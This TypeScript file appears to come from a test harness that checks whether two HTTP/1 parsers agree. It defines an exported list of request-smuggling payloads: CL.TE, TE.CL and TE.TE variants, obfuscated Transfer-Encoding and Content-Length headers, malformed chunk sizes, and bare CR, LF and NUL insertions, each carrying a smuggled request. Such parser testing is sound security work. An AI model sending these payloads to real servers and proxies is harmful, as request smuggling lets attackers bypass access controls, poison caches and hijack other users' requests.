/**
 * What two readers of HTTP/1 in a row have disagreed about: each variant of an attack is what one client sends on one
 * connection.
 */

/** Bytes of one client, a latin-1 character each, under the name of what they try. */
export interface Attack {
  readonly title: string
  readonly variants: readonly string[]
}

/** A request that stands in bodies: whoever sees it there has taken a body for a request. */
const SMUGGLED = 'GET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n'
const CHUNKED = 'Transfer-Encoding: chunked'
/** A whole chunked body, and a request behind it. */
const LAST_CHUNK = `0\r\n\r\n${SMUGGLED}`
const LENGTH = `Content-Length: ${SMUGGLED.length}`

function post(fields: readonly string[], body: string, version = 'HTTP/1.1'): string {
  return `POST /attack ${version}\r\nHost: a\r\n${fields.map(field => field + '\r\n').join('')}\r\n${body}`
}

function attack(title: string, ...variants: string[]): Attack {
  return { title, variants }
}

/** The body of SMUGGLED as one chunk, then the last one. */
const ONE_CHUNK = `${SMUGGLED.length.toString(16)}\r\n${SMUGGLED}\r\n0\r\n\r\n`

/** A length that covers more or less than the chunks, with a field that not everybody takes for Transfer-Encoding. */
function bothLengths(field: string): string[] {
  return [
    post([`Content-Length: ${LAST_CHUNK.length}`, field], LAST_CHUNK),
    post([field, `Content-Length: ${LAST_CHUNK.length}`], LAST_CHUNK),
    post([field, 'Content-Length: 4'], ONE_CHUNK),
    post([field, 'Content-Length: 0'], ONE_CHUNK),
    post([field], ONE_CHUNK),
  ]
}

const HIDDEN_CODINGS: readonly (readonly [title: string, field: string])[] = [
  ['a space before the colon', 'Transfer-Encoding : chunked'],
  ['a tab before the colon', 'Transfer-Encoding\t: chunked'],
  ['a tab behind the colon', 'Transfer-Encoding:\tchunked'],
  ['no blank', 'Transfer-Encoding:chunked'],
  ['a vertical tab', 'Transfer-Encoding: \x0bchunked'],
  ['a form feed', 'Transfer-Encoding: chunked\x0c'],
  ['quotes', 'Transfer-Encoding: "chunked"'],
  ['single quotes', "Transfer-Encoding: 'chunked'"],
  ['upper case', 'TRANSFER-ENCODING: CHUNKED'],
  ['a long s', 'Transfer-Encoding: chun\xc5\xbfed'],
  ['a list with identity', 'Transfer-Encoding: chunked, identity'],
  ['a list that ends in chunked', 'Transfer-Encoding: identity, chunked'],
  ['chunked twice in a list', 'Transfer-Encoding: chunked, chunked'],
  ['a leading comma', 'Transfer-Encoding: , chunked'],
  ['a trailing comma', 'Transfer-Encoding: chunked,'],
  ['two fields', 'Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked'],
  ['two fields, the second unknown', 'Transfer-Encoding: chunked\r\nTransfer-Encoding: cow'],
  ['two fields, the first unknown', 'Transfer-Encoding: cow\r\nTransfer-Encoding: chunked'],
  ['an unknown coding', 'Transfer-Encoding: xchunked'],
  ['a parameter', 'Transfer-Encoding: chunked;q=1'],
  ['an empty value', 'Transfer-Encoding:'],
  ['a NUL in the name', 'Transfer\0-Encoding: chunked'],
  ['a NUL in the value', 'Transfer-Encoding: chunked\0'],
  ['a no-break space', 'Transfer-Encoding\xa0: chunked'],
  ['an underscore', 'Transfer_Encoding: chunked'],
  ['a fold before the value', 'Transfer-Encoding:\r\n chunked'],
  ['a fold behind another field', 'X: y\r\n Transfer-Encoding: chunked'],
  ['a fold with a bare LF', 'X: y\n\tTransfer-Encoding: chunked'],
  ['a bare CR before it', 'X: y\rTransfer-Encoding: chunked'],
  ['a bare LF before it', 'X: y\nTransfer-Encoding: chunked'],
  ['a bare CR behind it', 'Transfer-Encoding: chunked\rX: y'],
  ['a bare LF behind it', 'Transfer-Encoding: chunked\nX: y'],
  ['CR CR LF behind it', 'Transfer-Encoding: chunked\r'],
  ['a line without a colon before it', 'X\r\nTransfer-Encoding: chunked'],
  ['an empty name before it', ': x\r\nTransfer-Encoding: chunked'],
  ['named by Connection', 'Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked'],
]

const LENGTHS: readonly (readonly [title: string, ...values: string[]])[] = [
  ['two that differ', `0\r\n${LENGTH}`, `${SMUGGLED.length}\r\nContent-Length: 0`],
  ['two that agree', `${SMUGGLED.length}\r\n${LENGTH}`],
  ['a list that agrees', `${SMUGGLED.length}, ${SMUGGLED.length}`],
  ['a list that differs', `0, ${SMUGGLED.length}`, `${SMUGGLED.length}, 0`],
  ['signs', `+${SMUGGLED.length}`, '-0', '-1', `-${SMUGGLED.length}`, '+0'],
  ['other numbers', `0x${SMUGGLED.length.toString(16)}`, '0b1', '1e1', '1_0', '1.0', '0.0', '٣',
    `0${SMUGGLED.length}`],
  ['commas', `${SMUGGLED.length},`, `,${SMUGGLED.length}`, ',', '0,'],
  ['blanks within', '3 7', '0 37', '3\t7', `\x0b${SMUGGLED.length}`, `${SMUGGLED.length}\x0c`,
    `${SMUGGLED.length}\0`],
  ['nothing', '', ' '],
  ['words', 'abc', 'NaN', 'Infinity', '"0"'],
  ['32 bits overflow', String(2 ** 31), String(2 ** 32), String(2 ** 32 + SMUGGLED.length)],
  ['53 bits overflow', String(2n ** 53n), String(2n ** 53n + 1n)],
  ['64 bits overflow', String(2n ** 63n), String(2n ** 64n), String(2n ** 64n + BigInt(SMUGGLED.length)),
    '9'.repeat(40)],
  ['a fold', `\r\n ${SMUGGLED.length}`, `0\r\n ${SMUGGLED.length}`],
  ['a bare CR', `${SMUGGLED.length}\r`, `0\rContent-Length: ${SMUGGLED.length}`],
  ['a bare LF', `0\nContent-Length: ${SMUGGLED.length}`],
]

/** Chunked bodies of which one reader takes more than another. */
const CHUNKS: readonly (readonly [title: string, ...bodies: string[]])[] = [
  ['an extension', `0;a\r\n\r\n${SMUGGLED}`, `0;a=b;c="d"\r\n\r\n${SMUGGLED}`,
    `1;${'a'.repeat(50)}\r\nx\r\n0\r\n\r\n${SMUGGLED}`],
  ['a bare LF in an extension', `2;\nxx\r\n${SMUGGLED.length.toString(16)}\r\n0\r\n\r\n${SMUGGLED}`,
    `0;a\n\r\n${SMUGGLED}`],
  ['a bare CR in an extension', `2;a\rxx\r\nxx\r\n0\r\n\r\n${SMUGGLED}`, `0;\r\r\n\r\n${SMUGGLED}`],
  ['a line end within quotes of an extension', `5;a="\r\n0\r\n\r\n${SMUGGLED}`,
    `1;a="\n"\r\nx\r\n0\r\n\r\n${SMUGGLED}`],
  ['an endless extension', `1;${'a'.repeat(40_000)}\r\nx\r\n0\r\n\r\n${SMUGGLED}`],
  ['sizes with leading zeros', `${'0'.repeat(8)}5\r\nhello\r\n0\r\n\r\n${SMUGGLED}`,
    `${'0'.repeat(20)}\r\n\r\n${SMUGGLED}`],
  ['sizes that overflow 32 bits', `100000000\r\n${LAST_CHUNK}`, `100000005\r\nhello\r\n${LAST_CHUNK}`],
  ['sizes that overflow 64 bits', `10000000000000000\r\n${LAST_CHUNK}`, `10000000000000005\r\nhello\r\n${LAST_CHUNK}`,
    `ffffffffffffffff\r\n${LAST_CHUNK}`, `fffffffffffffffff\r\n${LAST_CHUNK}`, `8000000000000000\r\n${LAST_CHUNK}`],
  ['signs', `+5\r\nhello\r\n${LAST_CHUNK}`, `-5\r\nhello\r\n${LAST_CHUNK}`, `-0\r\n\r\n${SMUGGLED}`,
    `+0\r\n\r\n${SMUGGLED}`],
  ['other digits', `0x5\r\nhello\r\n${LAST_CHUNK}`, `0X0\r\n\r\n${SMUGGLED}`, `g\r\n${LAST_CHUNK}`,
    `:\r\n${LAST_CHUNK}`, `@\r\n${LAST_CHUNK}`,
    `5_0\r\n${LAST_CHUNK}`, `0_2\r\nxx\r\n${LAST_CHUNK}`],
  ['blanks around the size', ` 5\r\nhello\r\n${LAST_CHUNK}`, `5 \r\nhello\r\n${LAST_CHUNK}`, `0 \r\n\r\n${SMUGGLED}`,
    `0\t\r\n\r\n${SMUGGLED}`, `0 5\r\nhello\r\n${LAST_CHUNK}`, `5 ;a\r\nhello\r\n${LAST_CHUNK}`],
  ['no size', `\r\n${LAST_CHUNK}`, `;a\r\n${LAST_CHUNK}`],
  ['a bare LF behind the size', `5\nhello\r\n${LAST_CHUNK}`, `0\n\r\n${SMUGGLED}`, `0\n\n${SMUGGLED}`],
  ['a bare CR behind the size', `5\rhello\r\n${LAST_CHUNK}`, `0\r\r\n\r\n${SMUGGLED}`,
    `5\r\r\nhello\r\n${LAST_CHUNK}`],
  ['no line end behind the data', `5\r\nhello${LAST_CHUNK}`, `5\r\nhelloxx${LAST_CHUNK}`, `5\r\nhello\n${LAST_CHUNK}`,
    `5\r\nhello\r${LAST_CHUNK}`, `5\r\nhello\r\r${LAST_CHUNK}`, `5\r\nhello\n\n${LAST_CHUNK}`,
    `5\r\nhello\n\r${LAST_CHUNK}`],
  ['one line end behind the last chunk', `0\r\n${SMUGGLED}`, `0\r\n\n${SMUGGLED}`, `0\r\n\r${SMUGGLED}`,
    `0\r\nX\r\n${SMUGGLED}`],
  ['trailers with framing fields', `0\r\n${LENGTH}\r\n\r\n${SMUGGLED}`, `0\r\n${CHUNKED}\r\n\r\n${SMUGGLED}`,
    `0\r\nContent-Length: 0\r\n\r\n${SMUGGLED}`, `0\r\nHost: b\r\nConnection: close\r\n\r\n${SMUGGLED}`,
    `0\r\nConnection: upgrade\r\nUpgrade: websocket\r\n\r\n${SMUGGLED}`],
  ['trailers that are none', `0\r\nX : y\r\n\r\n${SMUGGLED}`, `0\r\n X: y\r\n\r\n${SMUGGLED}`,
    `0\r\nX: y\r\n z\r\n\r\n${SMUGGLED}`,
    `0\r\nX: y\n\r\n${SMUGGLED}`, `0\r\nX: y\rZ: z\r\n\r\n${SMUGGLED}`, `0\r\n: y\r\n\r\n${SMUGGLED}`,
    `0\r\nX: \0\r\n\r\n${SMUGGLED}`],
]

const HEAD = `POST /attack HTTP/1.1\r\nHost: a\r\n${LENGTH}\r\nX: y\r\n\r\n`

/** The head with the text put in at every place, or in place of every line end. */
function everywhere(text: string): string[] {
  const inserted = Array.from(HEAD, (_, place) => HEAD.slice(0, place) + text + HEAD.slice(place) + SMUGGLED)
  const ends = [...HEAD.matchAll(/\r\n/g)]
  const replaced = ends.map(({ index }) => HEAD.slice(0, index) + text + HEAD.slice(index + 2) + SMUGGLED)
  return [...inserted, ...replaced]
}

function get(...lines: string[]): string {
  return lines.join('\r\n') + '\r\n\r\n'
}

const TARGETS: readonly Attack[] = [
  attack('absolute-form against Host', get('GET http://b/attack HTTP/1.1', 'Host: a'),
    get('GET http://b/attack HTTP/1.1'),
    get('GET https://b/attack HTTP/1.1', 'Host: a'), get('GET http://b@a/attack HTTP/1.1', 'Host: a'),
    get('GET http:///attack HTTP/1.1', 'Host: a'), get('GET http://a:99999/attack HTTP/1.1', 'Host: a'),
    get('GET javascript:alert(1) HTTP/1.1', 'Host: a'), get('GET HTTP://B/attack HTTP/1.1', 'Host: a')),
  attack('Host twice, missing, odd', get('GET /attack HTTP/1.1', 'Host: a', 'Host: b'), get('GET /attack HTTP/1.1'),
    get('GET /attack HTTP/1.1', 'Host: a, b'), get('GET /attack HTTP/1.1', 'Host:'), get('GET /attack HTTP/1.1',
      'Host: a/b'),
    get('GET /attack HTTP/1.1', 'Host: a b'), get('GET /attack HTTP/1.1', 'Host : b', 'Host: a'),
    get('GET /attack HTTP/1.1', 'Host: a', ' Host: b'), get('GET /attack HTTP/1.1', 'Host: a@b'),
    get('GET /attack HTTP/1.0')),
  attack('targets', get('GET /a b HTTP/1.1', 'Host: a'), get('GET /a HTTP/1.1 HTTP/1.1', 'Host: a'),
    get('GET a HTTP/1.1', 'Host: a'),
    get('GET * HTTP/1.1', 'Host: a'), get('OPTIONS * HTTP/1.1', 'Host: a'), get('CONNECT a:1 HTTP/1.1',
      'Host: a:1') + SMUGGLED,
    get('GET /a#b HTTP/1.1', 'Host: a'), get('GET /\x80 HTTP/1.1', 'Host: a'), get('GET /%00 HTTP/1.1', 'Host: a'),
    get('GET //b/attack HTTP/1.1', 'Host: a'), get('GET /x/../attack HTTP/1.1', 'Host: a'),
    get('GET /x\\..\\attack HTTP/1.1', 'Host: a'),
    get('GET ? HTTP/1.1', 'Host: a'), get('GET /%0d%0aX:%20y HTTP/1.1', 'Host: a')),
  attack('request lines', 'GET /attack\r\n' + SMUGGLED, 'GET /attack HTTP/0.9\r\n\r\n' + SMUGGLED,
    get('GET /attack HTTP/1.2', 'Host: a'), get('GET /attack HTTP/2.0', 'Host: a'), get('GET /attack http/1.1',
      'Host: a'),
    get('GET /attack HTTP/1.1 ', 'Host: a'), get('GET\t/attack\tHTTP/1.1', 'Host: a'), get('GET  /attack  HTTP/1.1',
      'Host: a'),
    get('get /attack HTTP/1.1', 'Host: a'), get('G(T /attack HTTP/1.1', 'Host: a'), get('GET /attack HTTP/01.1',
      'Host: a'),
    get('GET /attack HTTP/1.10', 'Host: a'), get('PRI * HTTP/2.0') + 'SM\r\n\r\n',
    '\r\n\r\n\r\n' + SMUGGLED, '\n\n' + SMUGGLED,
    '\r' + SMUGGLED, ' ' + SMUGGLED),
]

const METHODS: readonly Attack[] = [
  attack('a body of a method that has none', ...['GET', 'HEAD', 'DELETE', 'OPTIONS', 'TRACE'].flatMap(method => [
    get(`${method} /attack HTTP/1.1`, 'Host: a', LENGTH) + SMUGGLED,
    get(`${method} /attack HTTP/1.1`, 'Host: a', CHUNKED) + ONE_CHUNK,
  ])),
  attack('a body that nobody frames', get('POST /attack HTTP/1.1', 'Host: a') + SMUGGLED),
  attack('a body that is shorter than it says', post(['Content-Length: 500'], SMUGGLED), post([CHUNKED],
    `500\r\n${SMUGGLED}`)),
  attack('HTTP/1.0', post([CHUNKED], LAST_CHUNK, 'HTTP/1.0'),
    post([CHUNKED, 'Connection: keep-alive'], LAST_CHUNK, 'HTTP/1.0'),
    post([CHUNKED, LENGTH, 'Connection: keep-alive'], LAST_CHUNK, 'HTTP/1.0'),
    post([LENGTH, 'Connection: keep-alive'], SMUGGLED, 'HTTP/1.0')),
  attack('Expect', post([LENGTH, 'Expect: 100-continue'], SMUGGLED),
    post([LENGTH, 'Expect: 100-Continue, x'], SMUGGLED),
    post([LENGTH, 'Expect: x'], SMUGGLED), post([CHUNKED, 'Expect: 100-continue'], ONE_CHUNK),
    get('GET /attack HTTP/1.1', 'Host: a', 'Expect: 100-continue'), post(['Content-Length: 0',
      'Expect: 100-continue'], SMUGGLED),
    post([LENGTH, 'Expect: y 100-continue'], SMUGGLED), post([LENGTH, 'Expect:\r\n 100-continue'], SMUGGLED),
    get('HEAD /attack HTTP/1.1', 'Host: a', LENGTH, 'Expect: 100-continue') + SMUGGLED),
  attack('Connection that names fields', post([LENGTH, 'Connection: Content-Length'], SMUGGLED),
    post([LENGTH, 'Connection: close, Content-Length, Host'], SMUGGLED),
    post([LENGTH, 'Connection: x-proxy-mark'], SMUGGLED),
    post([LENGTH, 'Connection: keep-alive, close'], SMUGGLED)),
  attack('Upgrade', get('GET /attack HTTP/1.1', 'Host: a', 'Connection: Upgrade, HTTP2-Settings', 'Upgrade: h2c',
    'HTTP2-Settings: AAMAAABkAAQAAP__') + SMUGGLED,
  get('GET /attack HTTP/1.1', 'Host: a', 'Connection: Upgrade', 'Upgrade: websocket', 'Sec-WebSocket-Version: 777',
    'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==') + SMUGGLED,
  post([LENGTH, 'Connection: Upgrade', 'Upgrade: websocket'], SMUGGLED)),
  attack('requests that are pipelined', SMUGGLED.replace('smuggled', 'attack').repeat(5),
    post([LENGTH], SMUGGLED) + post([CHUNKED], ONE_CHUNK) + SMUGGLED.replace('smuggled', 'attack')),
  attack('marks of a forger', get('GET /attack HTTP/1.1', 'Host: a', 'X-Proxy-Mark: forged 1 GET /attack'),
    get('GET /attack HTTP/1.1', 'Host: a', 'X_Proxy_Mark: forged 1 GET /attack'),
    post([CHUNKED], `0\r\nX-Proxy-Mark: forged 1 GET /attack\r\n\r\n`)),
]

/** All attacks, each under its name. */
export const ATTACKS: readonly Attack[] = [
  attack('CL.TE, TE.CL, CL.0', ...bothLengths(CHUNKED)),
  ...HIDDEN_CODINGS.map(([title, field]) => attack(`TE.TE: ${title}`, ...bothLengths(field))),
  ...LENGTHS.map(([title, ...values]) => attack(`Content-Length: ${title}`, ...values.flatMap(value => [
    post([`Content-Length: ${value}`], SMUGGLED), post([`Content-Length: ${value}`, CHUNKED], LAST_CHUNK),
  ]))),
  attack('Content-Length: a space before the colon', post([`Content-Length : ${SMUGGLED.length}`], SMUGGLED),
    post([`Content-Length : 0`, LENGTH], SMUGGLED), post([`Content-Length\t: 0`, LENGTH], SMUGGLED)),
  attack('Content-Length: an underscore', post([`Content_Length: ${SMUGGLED.length}`], SMUGGLED)),
  ...CHUNKS.map(([title, ...bodies]) => attack(`chunks: ${title}`, ...bodies.map(body => post([CHUNKED], body)))),
  attack('a bare CR in each position', ...everywhere('\r')),
  attack('a bare LF in each position', ...everywhere('\n')),
  attack('LF CR in each position', ...everywhere('\n\r')),
  attack('a NUL in each position', ...everywhere('\0')),
  attack('a blank in each position', ...everywhere(' ')),
  attack('a tab in each position', ...everywhere('\t')),
  attack('CR LF in each position', ...everywhere('\r\n')),
  attack('a fold in each position', ...everywhere('\r\n ')),
  ...TARGETS, ...METHODS,
]
